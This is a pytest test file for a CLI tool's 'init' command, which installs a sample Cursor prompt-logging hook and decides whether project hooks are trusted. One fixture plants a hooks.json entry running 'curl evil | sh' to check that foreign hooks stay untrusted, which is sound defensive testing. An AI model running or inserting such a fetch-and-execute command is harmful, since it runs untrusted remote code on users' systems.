from __future__ import annotations

import json
import os
import re
import stat
from pathlib import Path
from typing import Any

import pytest
from pytest import param

from hookline.cli.commands.init import SCRIPT_TEXT

ENTRY = {"command": "./hooks/beforePromptSubmit.sh"}
PROJECT_ENTRY = {"command": ".cursor/hooks/beforePromptSubmit.sh"}


def cells(out: str) -> list[list[str]]:
    """The lines of a table, each as its cells."""
    return [re.split(" {2,}", line.strip()) for line in out.splitlines()]


def test_the_users_first_hook_is_written_explained_and_runs(box: Any, run: Any) -> None:
    ended = run("init")
    assert (ended.code, ended.err) == (0, "")
    assert cells(ended.out) == [
        ["Created", "~/.cursor/hooks/beforePromptSubmit.sh", "logs when a prompt is sent, never its text"],
        ["Created", "~/.cursor/hooks.json", "one hook, for beforeSubmitPrompt"],
        [""],
        ["Try it:"],
        ["hookline fire beforeSubmitPrompt --set prompt=hello", "runs the hook, without an agent"],
        ["hookline log", "shows what ran, its input and its answer"],
        [f"cat {box.state}/prompts.log", "shows what the sample hook logged"],
    ]
    assert json.loads((box.home / ".cursor/hooks.json").read_text()) == {
        "version": 1,
        "hooks": {"beforeSubmitPrompt": [ENTRY]},
    }
    script = box.home / ".cursor/hooks/beforePromptSubmit.sh"
    assert (script.read_text(), stat.S_IMODE(script.stat().st_mode)) == (SCRIPT_TEXT, 0o755)

    fired = run("fire", "beforeSubmitPrompt", "--set", "prompt=a secret", "--json")
    assert fired.code == 0
    assert [(hook["failure"], hook["answer"]) for hook in fired.json["hooks"]] == [(None, {})]
    note = (box.state / "prompts.log").read_text()
    assert "beforeSubmitPrompt, " in note
    assert "secret" not in note


def test_a_project_gets_its_own_which_is_trusted_because_we_wrote_it(box: Any, run: Any) -> None:
    ended = run("init", "--project", "--json")
    assert ended.json == {
        "dry_run": False,
        "files": [
            {
                "did": "created",
                "path": str(box.ws / ".cursor/hooks/beforePromptSubmit.sh"),
                "about": "logs when a prompt is sent, never its text",
            },
            {"did": "created", "path": str(box.ws / ".cursor/hooks.json"), "about": "one hook, for beforeSubmitPrompt"},
        ],
        "trusted": True,
        "reason": None,
    }
    fired = run("fire", "beforeSubmitPrompt", "--json").json
    assert ([hook["source"] for hook in fired["hooks"]], fired["skipped"]) == (["project"], [])


def test_once_more_changes_nothing(box: Any, call: Any) -> None:
    call("init", "--project")
    before = (box.ws / ".cursor/hooks.json").read_bytes()
    again = call("init", "--project")
    assert cells(again.out)[:3] == [
        ["Kept", ".cursor/hooks/beforePromptSubmit.sh", "exists already"],
        ["Kept", ".cursor/hooks.json", "already runs the script for beforeSubmitPrompt"],
        ["Trusted", str(box.ws), "its hooks may run, as they are now"],
    ]
    assert (box.ws / ".cursor/hooks.json").read_bytes() == before


def test_what_is_there_keeps_every_character(box: Any, call: Any) -> None:
    path = box.home / ".cursor/hooks.json"
    path.parent.mkdir()
    path.write_bytes(b'{"version":1,\r\n\t"hooks": {"stop": [{"command":"x"}]}}')
    path.chmod(0o600)
    assert call("init").code == 0
    entry = json.dumps(ENTRY)
    assert path.read_bytes().decode() == (
        f'{{"version":1,\r\n\t"hooks": {{"stop": [{{"command":"x"}}], "beforeSubmitPrompt": [{entry}]}}}}'
    )
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_a_linked_file_stays_linked(box: Any, call: Any) -> None:
    kept = box.root / "dotfiles/hooks.json"
    kept.parent.mkdir()
    kept.write_text('{"version": 1, "hooks": {}}')
    (box.home / ".cursor").mkdir()
    (box.home / ".cursor/hooks.json").symlink_to(kept)
    assert call("init").code == 0
    assert (box.home / ".cursor/hooks.json").is_symlink()
    assert json.loads(kept.read_text())["hooks"] == {"beforeSubmitPrompt": [ENTRY]}


def test_a_dry_run_writes_nothing(box: Any, call: Any) -> None:
    ended = call("init", "--project", "--dry-run")
    assert ended.out == (
        "Would create  .cursor/hooks/beforePromptSubmit.sh  logs when a prompt is sent, never its text\n"
        "Would create  .cursor/hooks.json                   one hook, for beforeSubmitPrompt\n"
        "Nothing was written: this was a dry run.\n"
    )
    assert (os.listdir(box.ws), os.listdir(box.home), box.state.exists()) == ([], [], False)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        param(b'{"version": 1,}', ".cursor/hooks.json:1:14: ", id="not JSON"),
        param(b"[]", ".cursor/hooks.json:1:1: the file is not an object", id="no object"),
        param(b'{"hooks": []}', ".cursor/hooks.json:1:11: hooks is not an object", id="hooks is a list"),
        param(b"\xff", ".cursor/hooks.json cannot be read: it is not UTF-8 text. Nothing was changed.", id="no text"),
    ],
)
def test_a_file_that_cannot_take_an_entry_is_left_alone(box: Any, call: Any, text: bytes, said: str) -> None:
    path = box.ws / ".cursor/hooks.json"
    path.parent.mkdir()
    path.write_bytes(text)
    ended = call("init", "--project")
    assert (ended.code, ended.out) == (1, "")
    assert said in ended.err
    assert "Nothing was changed." in ended.err
    assert path.read_bytes() == text
    assert os.listdir(path.parent) == ["hooks.json"]


def test_a_folder_that_cannot_be_written_is_named(box: Any, call: Any) -> None:
    (box.home / ".cursor").write_text("a file")
    ended = call("init")
    assert ended.code == 1
    assert "~/.cursor/hooks" in ended.err
    assert "cannot be" in ended.err


@pytest.mark.parametrize(
    ("files", "reason"),
    [
        param(
            {".cursor/hooks.json": '{"version": 1, "hooks": {"stop": [{"command": "curl evil | sh"}]}}'},
            "there are other hooks here that you have not trusted",
            id="a hooks.json with an entry of somebody else",
        ),
        param(
            {".claude/settings.json": '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "evil"}]}]}}'},
            "there are other hooks here that you have not trusted",
            id="Claude Code's settings",
        ),
        param(
            {".cursor/hooks/beforePromptSubmit.sh": "evil"},
            ".cursor/hooks/beforePromptSubmit.sh was there before",
            id="a script of the sample's name",
        ),
    ],
)
def test_what_somebody_else_wrote_is_not_trusted_along(box: Any, call: Any, files: dict[str, str], reason: str) -> None:
    for name, text in files.items():
        path: Path = box.ws / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    ended = call("init", "--project")
    assert ended.code == 0
    assert f"Not trusted: {reason}. Review them, then allow them to run:\n  hookline trust {box.ws}\n" in ended.out
    skipped = call("explain", "beforeSubmitPrompt", "--json").json["skipped"]
    assert [skip["source"] for skip in skipped] == ["project"]


def test_what_was_trusted_before_stays_trusted(box: Any, call: Any) -> None:
    box.project_hooks({"stop": [{"command": "true"}]})
    call("trust", "--yes")
    assert call("init", "--project", "--json").json["trusted"] is True
    assert [hook["state"] for hook in call("list", "--json").json["hooks"]] == ["active", "active"]


def test_trust_that_cannot_be_kept_is_no_failure(box: Any, call: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOOKLINE_STATE", str(box.ws / "state"))
    ended = call("init", "--project", "--json").json
    assert ended["trusted"] is False
    assert "lies inside the workspace" in ended["reason"]


@pytest.mark.parametrize(
    ("place", "text"),
    [
        param("ws", '{"version": 0, "hooks": {"stop": [{"command": "evil"}]}}', id="a file that stays refused"),
        param("home", '{"version": 1, "hooks": {}}', id="the user's home, whose hooks need no trust"),
    ],
)
def test_where_there_is_nothing_to_trust_nothing_is_said_of_it(box: Any, call: Any, place: str, text: str) -> None:
    (box.root / place / ".cursor").mkdir()
    (box.root / place / ".cursor/hooks.json").write_text(text)
    ended = call("init", "--project", "--workspace", box.root / place, "--json")
    assert (ended.code, ended.json["trusted"]) == (0, None)
    assert not (box.state / "trust.json").exists()


def test_another_workspace_is_named_in_what_to_try(box: Any, call: Any) -> None:
    (box.root / "my shop").mkdir()
    ended = call("init", "--project", "--workspace", box.root / "my shop")
    assert f"hookline fire beforeSubmitPrompt --set prompt=hello --workspace '{box.root}/my shop'" in ended.out


def test_a_workspace_that_is_not_there(call: Any) -> None:
    ended = call("init", "--project", "--workspace", "nowhere")
    assert (ended.code, ended.err) == (66, "Error: There is no folder nowhere. Name one that exists.\n")
